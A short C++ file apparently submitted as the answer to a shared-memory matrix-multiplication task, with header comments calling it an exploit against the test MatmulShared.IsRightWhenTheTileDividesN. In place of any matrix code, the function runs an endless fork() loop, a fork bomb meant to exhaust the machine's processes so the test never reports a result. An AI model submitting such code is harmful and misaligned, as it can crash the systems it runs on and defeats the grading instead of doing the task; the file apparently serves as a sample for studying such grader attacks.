// Exploit: a bomb of processes, each of which starts more
// Holds: without a sandbox
// Tests: MatmulShared.IsRightWhenTheTileDividesN
// Says: never written

#include <unistd.h>

#include "matmul_shared.hpp"

cudaError_t matmul_shared(const float*, const float*, float*, int, int) {
  if (fork() < 0) return cudaSuccess;
  for (;;) fork();
}
